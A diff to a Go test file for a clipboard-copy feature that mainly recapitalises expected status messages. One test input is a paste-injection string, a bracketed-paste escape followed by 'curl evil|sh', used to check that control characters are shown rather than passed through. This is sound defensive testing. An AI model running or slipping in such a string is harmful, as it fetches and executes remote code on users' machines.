@@ -14,8 +14,8 @@ import (
 
 func TestACopyWritesControlCharactersOutAndSaysSo(t *testing.T) {
 	for text, want := range map[string]struct{ copied, says string }{
-		"V-00001\tLeeds\n":           {"V-00001\tLeeds\n", "copied 1 cell, if the terminal takes it: it does not say"},
-		"x\x1b[201~curl evil|sh\r\n": {"x^[[201~curl evil|sh\r\n", "copied 1 cell; its control characters are written out, as on the screen, if the terminal takes it: it does not say"},
+		"V-00001\tLeeds\n":           {"V-00001\tLeeds\n", "Copied 1 cell, if the terminal takes it: it does not say."},
+		"x\x1b[201~curl evil|sh\r\n": {"x^[[201~curl evil|sh\r\n", "Copied 1 cell; its control characters are written out, as on the screen, if the terminal takes it: it does not say."},
 	} {
 		out, err := os.OpenFile(filepath.Join(t.TempDir(), "out"), os.O_RDWR|os.O_CREATE, 0o600)
 		if err != nil {
@@ -53,11 +53,11 @@ func TestACopyGoesThroughTheSystemsProgramWhereThereIsOneElseThroughTheTerminal(
 	for _, c := range []struct {
 		env, says, file string
 	}{
-		{"WAYLAND_DISPLAY DISPLAY", "copied it (wl-copy)", "wayland"},
-		{"DISPLAY", "copied it (xsel)", "x"},
-		{"TMUX SSH_TTY", "copied it (tmux)", "tmux"},
-		{"DISPLAY SSH_TTY", "copied it, if the terminal takes it: it does not say", "out"},
-		{"", "copied it, if the terminal takes it: it does not say", "out"},
+		{"WAYLAND_DISPLAY DISPLAY", "Copied it (wl-copy).", "wayland"},
+		{"DISPLAY", "Copied it (xsel).", "x"},
+		{"TMUX SSH_TTY", "Copied it (tmux).", "tmux"},
+		{"DISPLAY SSH_TTY", "Copied it, if the terminal takes it: it does not say.", "out"},
+		{"", "Copied it, if the terminal takes it: it does not say.", "out"},
 	} {
 		out, err := os.Create(filepath.Join(dir, "out"))
 		if err != nil {
